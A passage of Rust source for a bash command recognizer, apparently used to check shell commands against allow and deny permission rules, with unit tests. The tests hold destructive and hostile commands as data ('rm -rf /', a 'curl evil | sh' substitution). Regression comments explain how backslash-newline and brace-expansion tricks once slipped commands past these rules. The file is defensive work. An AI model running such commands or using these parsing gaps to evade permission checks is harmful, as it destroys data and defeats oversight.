            words: words.into_iter().map(|w| String::from_utf8_lossy(&w.text).into_owned()).collect(),
            dynamic_command,
            writes_file: b.writes_file,
            dynamic_at,
            files,
            dirs: self.flow.dirs.clone(),
        });
    }

    /// An assignment-like word (`NAME=value`) of a [`EVALUATED_VARIABLES`] name whose value
    /// is not a decimal literal fails; a [`STEERING_VARIABLES`] name is returned.
    fn check_assignment(&mut self, w: &Word) -> Option<&'static str> {
        let (name, value) = split_assignment(w);
        if let (Some(v), Some(value)) = (self.evaluated(name), value) {
            let literal = !w.dynamic && value.iter().all(u8::is_ascii_digit);
            if !literal {
                self.fail_at(Unmodelled::EvaluatedAssignment(v), w.start);
            }
        }
        steering(name)
    }

    /// The [`EVALUATED_VARIABLES`] entry `name` is, or `declare -i` for a name an earlier
    /// command of the line declared an integer ([`Flow::integers`]).
    fn evaluated(&self, name: &[u8]) -> Option<&'static str> {
        evaluated(name).or_else(|| self.flow.integers.iter().any(|n| n == name).then_some(INTEGER_DECLARED))
    }

    /// The checks of what a command depends on that an earlier one changed, and of what it
    /// changes for later ones ([`Flow`]). `ci`: the command word's index.
    fn check_flow(&mut self, words: &[Word], ci: Option<usize>) {
        let mut steers = None;
        for w in words[..ci.unwrap_or(words.len())].iter().filter(|w| w.assignment) {
            steers = self.check_assignment(w).or(steers);
        }
        let Some(ci) = ci else {
            self.flow.steered = self.flow.steered.or(steers);
            return;
        };
        let cmd = &words[ci];
        if let Some(v) = self.flow.steered.or(steers) {
            return self.fail_at(Unmodelled::ResolutionChanged(v), cmd.start);
        }
        let relative_program = !cmd.text.starts_with(b"/") && cmd.text.contains(&b'/');
        if self.flow.moved && relative_program {
            return self.fail_at(Unmodelled::ResolutionChanged("cd"), cmd.start);
        }
        if cmd.dynamic {
            return;
        }
        let args: Vec<&Word> = words[ci + 1..].iter().filter(|w| !w.redirect).collect();
        let name = cmd.text.as_slice();
        let names_taken = DECLARATION_BUILTINS.iter().chain(NAME_TAKING_BUILTINS).any(|b| b.as_bytes() == name);
        if names_taken {
            for w in &args {
                let steered = self.check_assignment(w);
                self.flow.steered = self.flow.steered.or(steered);
                if let Some(v) =
                    self.evaluated(&w.text).filter(|_| NAME_TAKING_BUILTINS.iter().any(|b| b.as_bytes() == name))
                {
                    self.fail_at(Unmodelled::EvaluatedAssignment(v), w.start);
                }
            }
        }
        if DIRECTORY_BUILTINS.iter().any(|b| b.as_bytes() == name) {
            self.flow.moved = true;
            let mut operands = args.iter().skip_while(|w| !w.dynamic && matches!(w.text.as_slice(), b"-L" | b"-e"));
            let dir = match (name, operands.next(), operands.next()) {
                (b"cd" | b"pushd", Some(w), None)
                    if !w.computed()
                        && !w.text.is_empty()
                        && !w.text.starts_with(b"-")
                        && !w.text.starts_with(b"+") =>
                {
                    std::str::from_utf8(&w.text).ok()
                }
                (b"cd" | b"pushd", Some(w), Some(d))
                    if w.text == b"--" && !w.dynamic && !d.computed() && !d.text.is_empty() =>
                {
                    std::str::from_utf8(&d.text).ok().filter(|_| operands.next().is_none())
                }
                _ => None,
            };
            self.flow.dirs.cd(dir);
        }
    }

    /// The command-word and builtin checks of the module docs.
    fn check_command(&mut self, words: &[Word]) {
        let ci = words.iter().position(|w| !w.assignment && !w.redirect);
        self.check_flow(words, ci);
        let Some(ci) = ci else {
            return; // assignments and redirections only
        };
        let cmd = &words[ci];
        let args: Vec<&Word> = words[ci + 1..].iter().filter(|w| !w.redirect).collect();
        let text = cmd.text.as_slice();
        let at = cmd.start;
        if !cmd.quoted
            && let Some(k) = UNMODELLED_KEYWORDS.iter().find(|k| k.as_bytes() == text)
        {
            return self.fail_at(Unmodelled::Keyword(k), at);
        }
        let bracket_name =
            text.iter().position(|&c| c == b'[').is_some_and(|i| is_name(&text[..i]) && text.contains(&b'='));
        if bracket_name && !cmd.quoted {
            return self.fail_at(Unmodelled::ArrayAssignment, at);
        }
        if cmd.ansi_c {
            return self.fail_at(Unmodelled::CommandWordQuoting, at);
        }
        if cmd.pattern && text != b"[" {
            return self.fail_at(Unmodelled::CommandWordPattern, at);
        }
        if text.iter().any(|c| matches!(c, b' ' | b'\t' | b'\n')) && !cmd.dynamic {
            return self.fail_at(Unmodelled::CommandWordBlank, at);
        }
        if cmd.dynamic {
            return; // reported as a dynamic command word
        }
        let name = String::from_utf8_lossy(text);
        if let Some(b) = UNMODELLED_BUILTINS.iter().find(|b| **b == name) {
            return self.fail_at(Unmodelled::Builtin(b), at);
        }
        let arg_start = |i: usize| args.get(i).map_or(at, |w| w.start);
        if let Some(b) = DECLARATION_BUILTINS.iter().find(|b| **b == name) {
            let literal_name = |w: &&Word| {
                let t = w.text.as_slice();
                let eq = t.iter().position(|&c| c == b'=').unwrap_or(t.len());
                let n = &t[..eq];
                let n = if eq < t.len() { n.strip_suffix(b"+").unwrap_or(n) } else { n };
                is_name(n) && w.dynamic_from.is_none_or(|d| d > eq)
            };
            // Leading options of [`DECLARATION_LETTERS`] (`-i`, `-r`, `-x`, ...; `+x` too).
            let options = args
                .iter()
                .take_while(|w| {
                    !w.computed() && matches!(w.text.first(), Some(b'-' | b'+')) && w.text.len() > 1 && w.text != b"--"
                })
                .count();
            let integer = args[..options].iter().any(|w| w.text.first() == Some(&b'-') && w.text.contains(&b'i'));
            let bad_option = args[..options].iter().position(|w| {
                (b == &"export" && w.text != b"-p") || !w.text[1..].iter().all(|c| DECLARATION_LETTERS.contains(c))
            });
            if let Some(i) = bad_option {
                return self.fail_at(Unmodelled::BuiltinArguments(b), arg_start(i));
            }
            if let Some(i) = args[options..].iter().position(|w| !literal_name(w)) {
                return self.fail_at(Unmodelled::BuiltinArguments(b), arg_start(options + i));
            }
            if integer {
                for (i, w) in args[options..].iter().enumerate() {
                    let (n, value) = split_assignment(w);
                    if value.is_some_and(|v| w.dynamic || !v.iter().all(u8::is_ascii_digit)) {
                        return self.fail_at(Unmodelled::EvaluatedAssignment(INTEGER_DECLARED), arg_start(options + i));
                    }
                    let n = n.to_vec();
                    if !self.flow.integers.contains(&n) {
                        self.flow.integers.push(n);
                    }
                }
            }
            return;
        }
        if let Some(b) = NAME_TAKING_BUILTINS.iter().find(|b| **b == name) {
            if let Some(i) = args.iter().position(|w| w.dynamic || w.text.contains(&b'[')) {
                self.fail_at(Unmodelled::BuiltinArguments(b), arg_start(i));
            }
            return;
        }
        if name == "test" || name == "[" {
            let b = if name == "test" { "test" } else { "[" };
            if let Some(i) = test_evaluating_argument(name == "[", &args) {
                self.fail_at(Unmodelled::BuiltinArguments(b), arg_start(i));
            }
            return;
        }
        if let Some(b) = RESTRICTED_BUILTINS.iter().find(|b| **b == name) {
            if let Some(i) = restricted_builtin_problem(b, &args) {
                self.fail_at(Unmodelled::BuiltinArguments(b), arg_start(i));
            }
            return;
        }
        if name == "printf" && args.first().is_some_and(|w| w.dynamic || w.text.first() == Some(&b'-')) {
            self.fail_at(Unmodelled::BuiltinArguments("printf"), arg_start(0));
        }
    }
}

/// The index of the first argument of `test` (`[`: `bracket`, the last argument must be
/// `]`) that could make it evaluate code, if any. `test` evaluates only the name of `-v`
/// and `-R` (a subscript is arithmetic); every other operand is compared as text or read as
/// a decimal number. So the operators must be literal: with one to three operands (after
/// `]` is dropped) the form is known from the literal words — one operand; a
/// [`TEST_UNARY`] operator and an operand; an operand, a [`TEST_BINARY`] operator and an
/// operand — and each computed operand must be one word (quoted: `"$X"`, never split into
/// more words that could hold `-v`). Longer expressions are understood only when no word
/// is computed and none is `-v`/`-R`.
fn test_evaluating_argument(bracket: bool, args: &[&Word]) -> Option<usize> {
    let operands = if bracket && args.last().is_some_and(|w| w.text == b"]" && !w.computed()) {
        &args[..args.len() - 1]
    } else {
        args
    };
    let literal = |w: &Word, set: &[&str]| !w.computed() && set.iter().any(|o| o.as_bytes() == w.text.as_slice());
    // A computed operand that bash may split into several words (or glob) is not one operand.
    let one_word = |i: usize| (operands[i].split || operands[i].pattern).then_some(i);
    match operands.len() {
        0 => None,
        1 => one_word(0),
        2 if literal(operands[0], TEST_UNARY) => one_word(1),
        3 if literal(operands[1], TEST_BINARY) => one_word(0).or_else(|| one_word(2)),
        _ => args.iter().position(|w| w.computed() || w.text == b"-v" || w.text == b"-R"),
    }
}

/// The index of the first argument of a [`RESTRICTED_BUILTINS`] builtin `name` that takes
/// it out of the forms that cannot run code (see there), if any.
fn restricted_builtin_problem(name: &str, args: &[&Word]) -> Option<usize> {
    let text = |i: usize| args[i].text.as_slice();
    let computed = args.iter().position(|w| w.computed());
    let option_with = |letters: &[u8]| {
        args.iter().position(|w| {
            w.text.first() == Some(&b'-') && w.text.len() > 1 && w.text[1..].iter().any(|c| letters.contains(c))
        })
    };
    let first = Some(0);
    match name {
        // Only redirections (dropped from `args`): the shell's own descriptors.
        "exec" => (!args.is_empty()).then_some(0),
        "trap" => {
            let listing = args.iter().all(|w| !w.computed() && (w.text == b"-l" || w.text == b"-p"));
            let print = args.first().is_some_and(|w| w.text == b"-p" && !w.computed());
            let reset = args.len() >= 2 && !args[0].computed() && (args[0].text.is_empty() || args[0].text == b"-");
            let signals = args
                .iter()
                .skip(1)
                .all(|w| !w.computed() && (is_name(&w.text) || w.text.iter().all(u8::is_ascii_digit)));
            if listing || (print && args[1..].iter().all(|w| !w.computed())) || (reset && signals) {
                None
            } else {
                first
            }
        }
        "hash" => computed.or_else(|| option_with(b"p")),
        "history" => match args.len() {
            0 => None,
            1 if !args[0].computed() && (text(0) == b"-c" || text(0).iter().all(u8::is_ascii_digit)) => None,
            2 if !args[0].computed() && text(0) == b"-d" && !args[1].computed() => None,
            _ => first,
        },
        "fc" => {
            let lists =
                args.first().is_some_and(|w| !w.computed() && w.text.starts_with(b"-") && w.text.contains(&b'l'));
            if !lists { first } else { computed.or_else(|| option_with(b"se")) }
        }
        "alias" | "unalias" => None,
        "compgen" | "complete" | "compopt" => computed.or_else(|| option_with(b"CF")).or_else(|| {
            // `-W WORDS` (also in a cluster, `-bW`): the word list is expanded, so no
            // argument may hold what would expand.
            args.iter().position(|w| w.text.contains(&b'$') || w.text.contains(&b'`'))
        }),
        "mapfile" | "readarray" => computed.or_else(|| option_with(b"Cc")).or_else(|| {
            let name = args.iter().rposition(|w| !w.text.starts_with(b"-"))?;
            let t = text(name);
            let plain = is_name(t) && evaluated(t).is_none() && steering(t).is_none();
            // The name is the last word and not an option's value (`-d ,`, `-n 5`).
            let option_value = name > 0 && matches!(text(name - 1), b"-d" | b"-n" | b"-O" | b"-s" | b"-u");
            (!plain && !option_value).then_some(name)
        }),
        "command" => {
            let lookup = args.first().is_some_and(|w| !w.computed() && matches!(w.text.as_slice(), b"-v" | b"-V"));
            if lookup { computed } else { first }
        }
        "set" => {
            let mut i = 0;
            while i < args.len() {
                let w = args[i];
                if w.computed() {
                    return Some(i);
                }
                if w.text == b"--" || w.text == b"-" || !matches!(w.text.first(), Some(b'-' | b'+')) {
                    return None; // positional parameters from here on
                }
                if !w.text[1..].iter().all(|c| SET_HARMLESS_LETTERS.contains(c)) {
                    return Some(i);
                }
                if w.text.contains(&b'o') {
                    match args.get(i + 1) {
                        None => return None,
                        Some(n) if !n.computed() && SET_HARMLESS_WORDS.iter().any(|h| h.as_bytes() == n.text) => i += 1,
                        Some(_) => return Some(i + 1),
                    }
                }
                i += 1;
            }
            None
        }
        _ => first,
    }
}

/// A reserved word the recognizer models, as the first word of a command.
fn is_leading_reserved(w: &Word) -> bool {
    !w.quoted && !w.dynamic && LEADING_RESERVED.iter().any(|r| r.as_bytes() == w.text.as_slice())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(cmd: &str) -> Vec<String> {
        match recognize(cmd) {
            Recognition::Understood(c) => c.iter().map(SimpleCommand::text).collect(),
            Recognition::NotUnderstood { why, .. } => panic!("{cmd:?}: {why}"),
        }
    }

    fn why(cmd: &str) -> Unmodelled {
        recognize(cmd).not_understood().unwrap_or_else(|| panic!("{cmd:?} was understood")).reason
    }

    #[test]
    fn splits_operators() {
        assert_eq!(texts("a && b || c; d | e & f\ng"), ["a", "b", "c", "d", "e", "f", "g"]);
        assert_eq!(texts("a |& b"), ["a", "b"]);
        assert_eq!(why("a ;; b"), Unmodelled::CaseTerminator);
    }

    #[test]
    fn quoting() {
        assert_eq!(texts("echo 'a; b' \"c && d\""), ["echo a; b c && d"]);
        assert_eq!(texts("echo a\\;b"), ["echo a;b"]);
        assert_eq!(texts("git   \"status\""), ["git status"]);
    }

    #[test]
    fn substitutions() {
        assert_eq!(texts("echo $(rm -rf ~)"), ["rm -rf ~", "echo $(...)"]);
        assert_eq!(texts("echo \"$(id)\""), ["id", "echo $(...)"]);
        assert_eq!(texts("echo `whoami`"), ["whoami", "echo $(...)"]);
        assert_eq!(texts("echo '$(id)'"), ["echo $(id)"]);
        assert_eq!(texts("diff <(ls a) >(cat)"), ["ls a", "cat", "diff <(...) >(...)"]);
        assert_eq!(texts("echo $((1 + 2*(3-1)))"), ["echo $((...))"]);
        assert_eq!(why("echo $((1 + $(id -u)))"), Unmodelled::Arithmetic);
        assert_eq!(texts("echo ${HOME} $1 ${10} $? ${#}"), ["echo $HOME $1 $10 $? $#"]);
    }

    #[test]
    fn redirects() {
        let s = recognize("ls 2>&1 >/dev/null");
        assert_eq!(s.commands()[0].text(), "ls");
        assert!(!s.commands()[0].writes_file);
        let s = recognize("echo hi > out.txt");
        assert_eq!(s.commands()[0].text(), "echo hi > out.txt");
        assert!(s.commands()[0].writes_file);
        assert_eq!(texts("cat a &> b"), ["cat a &> b"]);
        assert!(recognize("echo <> f").commands()[0].writes_file);
        assert_eq!(why("echo data >&1name"), Unmodelled::FdDuplicationWord);
        assert_eq!(why("echo {fd}>x"), Unmodelled::NamedFd);
        assert_eq!(why("cat <<EOF\nx\nEOF"), Unmodelled::Heredoc);
    }

    #[test]
    fn reserved_words_and_comments() {
        assert_eq!(texts("if true; then rm -rf /; fi"), ["true", "rm -rf /"]);
        assert_eq!(texts("{ ls; }"), ["ls"]);
        assert_eq!(texts("echo hi # ; rm -rf /"), ["echo hi"]);
        assert_eq!(texts("time -p ! ls"), ["ls"]);
        // `time --` and `time -p --` (bash 5): the `--` belongs to `time`.
        assert_eq!(texts("time -- rm -rf /"), ["rm -rf /"]);
        assert_eq!(texts("time -p -- curl x"), ["curl x"]);
        assert_eq!(texts("time -- -p ls"), ["-p ls"]);
        assert_eq!(texts("time \"--\" ls"), ["-- ls"]);
        assert_eq!(texts("time -p -p ls"), ["-p ls"]);
        // Found by the differential test: `time` after `|` is /usr/bin/time.
        assert_eq!(texts("echo | time echo"), ["echo", "time echo"]);
        assert_eq!(texts("echo || time echo"), ["echo", "echo"]);
        assert_eq!(texts("echo |& ! echo"), ["echo", "! echo"]);
        assert_eq!(texts("echo | { time echo; }"), ["echo", "echo"]);
        // Found by the differential test (issue 40): after a redirection, even one dropped
        // from the words, bash reads no reserved word.
        assert_eq!(why("<&0 { echo"), Unmodelled::CommandWordPattern);
        assert_eq!(texts(">/dev/null time echo"), ["time echo"]);
        assert_eq!(texts("2>&1 ! echo"), ["! echo"]);
        assert_eq!(texts("{ 2>&1 echo; }"), ["echo"]);
        assert_eq!(why("for x in a; do echo; done"), Unmodelled::Keyword("for"));
        assert_eq!(why("f() { ls; }"), Unmodelled::FunctionDefinition);
        assert_eq!(why("a=(1 2)"), Unmodelled::ArrayAssignment);
        assert_eq!(why("a[0]=1 echo"), Unmodelled::ArrayAssignment);
    }

    #[test]
    fn not_understood() {
        assert_eq!(why("echo 'x"), Unmodelled::Unterminated);
        assert_eq!(why("echo $(x"), Unmodelled::Unterminated);
        assert_eq!(why("a )"), Unmodelled::UnbalancedParenthesis);
        assert_eq!(why("echo >"), Unmodelled::MissingRedirectTarget);
        assert_eq!(why("echo ok\r# ; rm -rf x"), Unmodelled::ControlCharacter);
        assert_eq!(why("echo ${z@P}"), Unmodelled::ParameterOperator);
        assert_eq!(why("eval echo"), Unmodelled::Builtin("eval"));
        assert_eq!(why("\"eval\" echo"), Unmodelled::Builtin("eval"));
        assert_eq!(why("ec* hi"), Unmodelled::CommandWordPattern);
        assert_eq!(why("$'\\x65cho' hi"), Unmodelled::CommandWordQuoting);
        // History expansion is off in the non-interactive shell: `!` is text.
        assert_eq!(texts("echo a!b !!"), ["echo a!b !!"]);
        assert!(matches!(recognize("echo ok"), Recognition::Understood(_)));
        let r = recognize("echo x\0rm y");
        assert_eq!(r.not_understood(), Some(NotUnderstood { reason: Unmodelled::ControlCharacter, at: 6 }));
    }

    #[test]
    fn builtins_with_arguments() {
        assert_eq!(texts("export A=b C=$HOME"), ["export A=b C=$HOME"]);
        assert_eq!(why("export -n A"), Unmodelled::BuiltinArguments("export"));
        assert_eq!(why("declare $x"), Unmodelled::BuiltinArguments("declare"));
        assert_eq!(texts("set -euo pipefail"), ["set -euo pipefail"]);
        assert_eq!(why("set -k"), Unmodelled::BuiltinArguments("set"));
        assert_eq!(why("read 'a[$(id)]'"), Unmodelled::BuiltinArguments("read"));
        assert_eq!(why("[ -v x ]"), Unmodelled::BuiltinArguments("["));
        assert_eq!(texts("[ -f x ]"), ["[ -f x ]"]);
        assert_eq!(why("printf -v x y"), Unmodelled::BuiltinArguments("printf"));
    }

    /// Regression: bash removes a backslash-newline before it tokenizes, the recognizer
    /// looked at the byte after `$` first: `echo "$\<nl>(curl evil | sh)"` read as the
    /// literal text `$(curl evil | sh)` (allowed by `Bash(echo:*)`) and `$\<nl>'\x72m'`
    /// as a literal command word, where bash runs the substitution and `rm`.
    #[test]
    fn regression_a_backslash_newline_after_dollar_hid_a_command_substitution() {
        assert_eq!(texts("echo \"$\\\n(id)\""), ["id", "echo $(...)"]);
        assert_eq!(texts("echo $\\\n(id)"), ["id", "echo $(...)"]);
        assert_eq!(texts("echo $\\\n\\\n(id)"), ["id", "echo $(...)"]);
        assert_eq!(why("$\\\n'\\x72m' -rf /"), Unmodelled::CommandWordQuoting);
        assert!(recognize("echo $\\\n'\\x41'").commands()[0].dynamic_at.is_some());
        assert_eq!(why("echo $\\\n{x:-$(id)}"), Unmodelled::ParameterOperator);
        assert_eq!(texts("echo $\\\n{HOME} $\\\n((1+2))"), ["echo $HOME $((...))"]);
        // Operators and their lookahead see the joined text too.
        assert_eq!(texts("cat <\\\n(id)"), ["id", "cat <(...)"]);
        assert_eq!(texts("echo hi &\\\n> f"), ["echo hi &> f"]);
        assert_eq!(texts("ls 2>\\\n&1"), ["ls"]);
        assert_eq!(texts("a |\\\n& b"), ["a", "b"]);
        assert_eq!(texts("tim\\\ne -\\\n- rm x"), ["rm x"]);
        // In double quotes and backticks it goes too; an escaped backslash stays.
        assert_eq!(texts("echo \"a\\\nb\""), ["echo ab"]);
        assert_eq!(texts("echo \\\\\necho"), ["echo \\", "echo"]);
        // Single quotes, `$'...'` and comments keep it, as in bash.
        assert_eq!(texts("echo 'a\\\nb'"), ["echo a\\\nb"]);
        assert_eq!(texts("echo \"$(echo 'a\\\nb')\""), ["echo a\\\nb", "echo $(...)"]);
        assert_eq!(why("echo hi # \\\nrm -rf /"), Unmodelled::CommentContinuation);
        assert_eq!(texts("echo a\\\n#b"), ["echo a#b"]);
        assert_eq!(texts("echo \\\n#b"), ["echo"]);
        // Offsets are the command's, not the joined text's.
        assert_eq!(recognize("echo \\\n$\\\n{x@P}").not_understood().map(|n| n.at), Some(7));
    }

    /// Regression: an unquoted brace, glob or tilde was matched as literal text, so under
    /// `deny: Bash(git push --force:*)` the command `git push {--force,origin} main`
    /// (which bash runs as `git push --force origin main`) was allowed. Such a word is
    /// computed at run time from its first expansion point on.
    #[test]
    fn regression_a_brace_or_glob_expansion_in_an_argument_was_read_as_literal_text() {
        let at = |cmd: &str| recognize(cmd).commands()[0].dynamic_at;
        let key = |s: &str| s.replace(' ', &WORD_BREAK.to_string()).len();
        assert_eq!(at("git push {--force,origin} main"), Some(key("git push ")));
        assert_eq!(at("git push origin main --forc?"), Some(key("git push origin main --forc")));
        assert_eq!(at("git push origin ma* x"), Some(key("git push origin ma")));
        assert_eq!(at("git push origin --f[o]rce"), Some(key("git push origin --f")));
        assert_eq!(at("echo a{1..3}"), Some(key("echo a")));
        assert_eq!(at("rm -rf ~"), Some(key("rm -rf ")));
        assert_eq!(at("cp x a=~/y"), Some(key("cp x a=")));
        assert_eq!(at("echo $HOME {a,b}"), Some(key("echo ")));
        // Literal in bash: quoted, no closing bracket or brace, no alternatives, `~` inside.
        assert_eq!(at("echo '{a,b}' \"*\" \\? x\\*"), None);
        assert_eq!(at("find . -name x -exec rm {} ;"), None);
        assert_eq!(at("[ -f x ]"), None);
        assert_eq!(at("git log HEAD~1 @{u}"), None);
        assert_eq!(texts("{ ls; }"), ["ls"]);
    }

    #[test]
    fn dynamic_command_word() {
        assert!(recognize("$CMD -rf /").commands()[0].dynamic_command);
        assert!(!recognize("X=$(id) ls").commands()[1].dynamic_command);
        assert!(!recognize("echo $HOME").commands()[0].dynamic_command);
    }
}
